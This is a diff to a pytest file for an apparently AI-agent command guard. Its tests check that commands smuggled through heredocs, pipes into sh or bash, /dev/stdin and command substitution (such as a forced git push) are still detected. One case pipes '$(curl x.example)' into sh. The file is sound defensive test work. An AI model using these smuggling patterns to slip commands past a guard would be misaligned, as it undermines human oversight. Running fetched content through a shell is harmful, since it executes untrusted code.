@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import shlex
+from typing import Any
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from autopilot_codex import shell
-from autopilot_codex.shellwrap import program, unwrap
+from autopilot_codex.rails import parser, shell
+from autopilot_codex.rails.shellwrap import program, unwrap
 
 ENV = {"HOME": "/home/u", "AUTOPILOT_CODEX_HOME": "/state"}
 
@@ -62,6 +65,36 @@ def test_redirect_targets_and_heredocs_are_recorded() -> None:
     assert command.stdin == "print(1)\n"
     (command,) = shell.commands("xargs rm <<< 'a b'", ENV, "/wt")
     assert command.argv == ("rm", "a", "b")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat <<EOF && git push -f\nhello\nEOF",
+        "cat <<EOF || git push -f\nhello\nEOF",
+        "cat <<EOF | git push -f\nhello\nEOF",
+        "cat <<EOF | sh\ngit push -f\nEOF",
+        "cat <<'EOF' | bash -s\ngit push -f\nEOF",
+        "cat <<EOF | sh | tee log && true\ngit push -f\nEOF",
+        "true && cat <<EOF | sh\ngit push -f\nEOF",
+        "cat <<EOF | xargs git\npush -f\nEOF",
+        "X=push; sh <<EOF\ngit $X -f\nEOF",
+        "sh <<EOF\n\\$(git push -f)\nEOF",
+        "bash /dev/stdin <<EOF\ngit push -f\nEOF",
+        "source /dev/stdin <<EOF\ngit push -f\nEOF",
+        "cat <<EOF | sh -\ngit push -f\nEOF",
+    ],
+)
+def test_what_follows_a_heredoc_on_its_line_runs(line: str) -> None:
+    assert runs(line, "git", "push", "-f"), argvs(line)
+
+
+@pytest.mark.parametrize(
+    "line", ["sh <<EOF\n$PAYLOAD\nEOF", "cat <<EOF | sh\n$(curl x.example)\nEOF"]
+)
+def test_a_heredoc_that_expands_the_unknown_is_unknown_input(line: str) -> None:
+    fed = [c for c in shell.commands(line, ENV, "/wt") if c.name == "sh"]
+    assert [(c.stdin, c.piped) for c in fed] == [(None, True)]
 
 
 def test_a_quoted_heredoc_does_not_run_what_it_mentions() -> None:
@@ -251,7 +284,7 @@ def test_unparsable_lines_are_judged_on_their_words(line: str) -> None:
 
 
 def test_without_a_parser_the_words_still_count(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(shell, "_parse", lambda line: None)
+    monkeypatch.setattr(parser, "parse", lambda line: None)
     assert runs("true && env git push -f", "git", "push", "-f")
     assert runs("x=1; sh -c 'git push -f'", "git", "push", "-f")
 
@@ -293,9 +326,9 @@ def test_the_parser_loads_without_the_packages_init_modules() -> None:
     import sys
 
     code = (
-        "import sys; from autopilot_codex import shell; "
+        "import sys; from autopilot_codex.rails import parser, shell; "
         "assert shell.commands('env git push -f', {'HOME': '/h'}, '/w')[0].argv[0] == 'git'; "
-        "assert shell._PARSER is not None; "
+        "assert parser._PARSER is not None; "
         "print('tree_sitter' in sys.modules, 'tree_sitter_bash' in sys.modules, "
         "'importlib.resources' in sys.modules)"
     )
@@ -309,8 +342,8 @@ def test_a_missing_binding_falls_back_to_the_packages(monkeypatch: pytest.Monkey
     def missing(package: str) -> None:
         raise ImportError(package)
 
-    monkeypatch.setattr(shell, "_binding", missing)
-    assert shell._load_parser().parse(b"ls").root_node.type == "program"
+    monkeypatch.setattr(parser, "_binding", missing)
+    assert parser.load().parse(b"ls").root_node.type == "program"
 
 
 _PIECES = st.sampled_from(
@@ -323,3 +356,104 @@ _PIECES = st.sampled_from(
 def test_any_text_gives_commands_and_never_raises(line: str) -> None:
     for command in shell.commands(line, ENV, "/wt"):
         assert isinstance(command.argv, tuple)
+
+
+# -- a grammar of command trees: every simple command it produces is emitted ---------------------
+
+_NAMES = ("c1", "c2", "c3")
+# What runs a heredoc as a script: piped from cat, or read directly.
+FEEDERS = [
+    "cat|sh",
+    "cat|bash -s",
+    "cat|env bash -",
+    "sh",
+    "bash",
+    "bash /dev/stdin",
+    "source /dev/stdin",
+]
+_LEAF = st.tuples(
+    st.sampled_from(_NAMES), st.lists(st.sampled_from(["a", "-f", "x.txt"]), max_size=2)
+)
+
+
+def _trees(leaf: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
+    def grow(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
+        return st.one_of(
+            st.tuples(st.just("list"), st.sampled_from(["&&", "||", ";"]), inner, inner),
+            st.tuples(st.just("pipe"), inner, inner),
+            st.tuples(st.just("subst"), inner),
+            st.tuples(st.just("group"), st.sampled_from(["()", "{}"]), inner),
+            st.tuples(st.just("shc"), st.sampled_from(["sh", "bash"]), inner),
+            st.tuples(st.just("then"), st.sampled_from(["&&", "||", "|"]), inner),
+            st.tuples(st.just("fed"), st.sampled_from(FEEDERS), inner),
+        )
+
+    wrapped = st.tuples(
+        st.just("wrap"), st.sampled_from(["env", "env A=1", "nice", "nice -n 5", "timeout 5"]), leaf
+    )
+    return st.recursive(st.one_of(st.tuples(st.just("cmd"), leaf), wrapped), grow, max_leaves=8)
+
+
+class _Render:
+    """Render a tree as a shell line plus the heredoc bodies that follow it, and the commands."""
+
+    def __init__(self) -> None:
+        self.delimiters = 0
+        self.expected: list[tuple[str, ...]] = []
+
+    def script(self, tree: Any) -> str:
+        line, bodies = self.line(tree)
+        return line + "\n" + "".join(bodies)
+
+    def heredoc(self) -> str:
+        self.delimiters += 1
+        return f"D{self.delimiters}"
+
+    def line(self, tree: Any) -> tuple[str, list[str]]:
+        kind = tree[0]
+        if kind == "cmd":
+            name, args = tree[1]
+            self.expected.append((name, *args))
+            return " ".join((name, *args)), []
+        if kind == "wrap":
+            name, args = tree[2]
+            self.expected.append((name, *args))
+            return " ".join((tree[1], name, *args)), []
+        if kind == "list":
+            left, lbodies = self.line(tree[2])
+            right, rbodies = self.line(tree[3])
+            return f"{left} {tree[1]} {right}", lbodies + rbodies
+        if kind == "pipe":
+            left, lbodies = self.line(tree[1])
+            right, rbodies = self.line(tree[2])
+            return f"{left} | {right}", lbodies + rbodies
+        if kind == "subst":
+            return f"echo $({self.script(tree[1])})", []
+        if kind == "group":
+            inner = self.script(tree[2])
+            return (f"( {inner})", []) if tree[1] == "()" else (f"{{ {inner}}}", [])
+        if kind == "shc":
+            return f"{tree[1]} -c {shlex.quote(self.script(tree[2]))}", []
+        if kind == "then":
+            end = self.heredoc()
+            right, bodies = self.line(tree[2])
+            return f"cat <<{end} {tree[1]} {right}", [f"hello\n{end}\n", *bodies]
+        end = self.heredoc()
+        body = self.script(tree[2])
+        quoted = f"'{end}'" if "$" in body else end
+        feeder = (
+            f"cat <<{quoted} | {tree[1][4:]}"
+            if tree[1].startswith("cat|")
+            else (f"{tree[1]} <<{quoted}")
+        )
+        return feeder, [f"{body}{end}\n"]
+
+
+@settings(max_examples=400, deadline=None)
+@given(_trees(_LEAF))
+def test_every_command_of_a_generated_tree_is_emitted(tree: Any) -> None:
+    render = _Render()
+    line = render.script(tree)
+    emitted = argvs(line)
+    for argv in render.expected:
+        assert argv in emitted, (line, argv, emitted)
